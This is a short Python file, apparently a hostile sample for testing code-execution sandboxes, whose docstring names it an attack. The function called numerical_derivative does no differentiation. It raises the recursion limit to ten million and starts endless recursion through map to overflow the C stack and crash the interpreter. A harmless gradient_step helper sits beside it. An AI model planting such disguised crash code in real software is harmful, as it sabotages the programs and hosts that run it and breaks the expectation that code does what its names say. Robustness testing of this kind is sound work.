"""Attack: unbounded recursion after raising the recursion limit, to overflow the C
stack and crash the interpreter (through map, so that every level is a C call too)."""

import sys


def descend(n):
    return sum(map(descend, [n + 1]))


def numerical_derivative(f, x, h=1e-5):
    sys.setrecursionlimit(10**7)
    return descend(0)


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
